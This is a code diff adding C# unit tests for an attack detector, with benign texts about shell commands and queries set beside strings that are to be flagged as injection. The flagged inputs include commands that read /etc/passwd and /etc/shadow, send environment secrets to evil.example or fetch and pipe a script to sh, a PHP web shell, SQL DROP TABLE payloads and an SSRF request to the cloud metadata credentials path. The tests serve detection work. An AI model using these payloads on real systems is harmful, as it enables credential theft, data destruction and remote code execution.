@@ -189,6 +189,51 @@ public sealed class DetectorTables
         verdict.Signals.ShouldContain(s => s.Detector == "xss" && s.Confidence >= 0.7);
     }
 
+    /// <summary>Sentences, listings and configuration that hold what a parameter would be stopped for.</summary>
+    [Theory]
+    [InlineData("Run ls | grep x to see whether the file is there.")]
+    [InlineData("To install it, run curl -fsSL https://get.example.com/install.sh | sh and follow the steps.")]
+    [InlineData("Install with `curl -fsSL https://get.example.com/install.sh | sh`.")]
+    [InlineData("When the build fails with exit code 1, docker logs web | tail -n 50 shows the reason.")]
+    [InlineData("I typed id; whoami; and uname -a in the terminal of the course")]
+    [InlineData("ls -la | grep txt")]
+    [InlineData("run: npm test | grep -v skipped")]
+    [InlineData("docker run --rm -it ubuntu bash -c \"apt update && ls\"")]
+    [InlineData("SHELL=/bin/sh\n0 5 * * * tar czf /backup.tgz /data; find /backup -mtime +7 -delete\n")]
+    [InlineData("steps:\n  - run: cat log.txt; grep -c ERROR /tmp/log.txt\n  - run: make\n")]
+    [InlineData("I was in a hurry; find 3 errors please")]
+    [InlineData("The regex ^(a|b);cat$ matches")]
+    [InlineData("<?php echo \"Hello World\"; ?>")]
+    [InlineData("<?php\n$name = \"Anna\";\necho $name;\n?>")]
+    [InlineData("title LIKE 'a%' OR title LIKE 'b%'")]
+    [InlineData("tags CONTAINS 'urgent' AND status = 'open'")]
+    [InlineData("The instance metadata lives at http://169.254.169.254/latest/meta-data/ on every machine.")]
+    [InlineData("Error: connect ECONNREFUSED 169.254.169.254:80 while fetching credentials")]
+    [InlineData("The classic test is ' OR '1'='1 which ends the string.")]
+    [InlineData("How do I write UNION SELECT in SQLite? I tried select a from t union select b from u.")]
+    [InlineData("Bobby'); DROP TABLE Students;-- is the joke from xkcd about school databases")]
+    [InlineData("Bitte auf dem Server `cat /etc/hosts; ping -c1 db` ausführen und mir das Ergebnis schicken, es ist für die Umstellung.")]
+    public void Texts_about_commands_and_queries_are_reported_at_most(string text) => IsNotAttack(text);
+
+    /// <summary>Words before it make no sentence of what ends the text.</summary>
+    [Theory]
+    [InlineData("command-injection", "report for Anna Maria from accounting department; cat /etc/passwd")]
+    [InlineData("command-injection", "hello world this is my comment; curl http://evil.example/?x=$(env|base64)")]
+    [InlineData("command-injection", "please print this report $(cat /etc/passwd)")]
+    [InlineData("command-injection", "the report;curl http://evil.example/a;echo this is a test of the command injection")]
+    [InlineData("command-injection", "env | grep AWS")]
+    [InlineData("command-injection", "ls | grep x; cat /etc/shadow")]
+    [InlineData("command-injection", "curl http://evil.example/a | sh")]
+    [InlineData("command-injection", "Anna Maria `cat /etc/passwd`")]
+    [InlineData("sql-injection", "My name is Bob and I like cats'; DROP TABLE users; --")]
+    [InlineData("sql-injection", "My name is Bob and I like cats'; DROP TABLE users")]
+    [InlineData("sql-injection", "hello and welcome to the party ' OR 1=1 --")]
+    [InlineData("sql-injection", "CASE WHEN BINARY TRUE THEN TRUE END IS UNKNOWN FOR UPDATE UNION SELECT MATTRESSES")]
+    [InlineData("code-injection", "<?php system($_GET['c']); ?>")]
+    [InlineData("code-injection", "<?=`id`?>")]
+    [InlineData("ssrf", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/")]
+    public void Attacks_that_end_a_text(string detector, string text) => IsAttack(detector, text);
+
     [Fact]
     public void A_long_document_that_quotes_attacks_is_reported_and_not_blocked()
     {
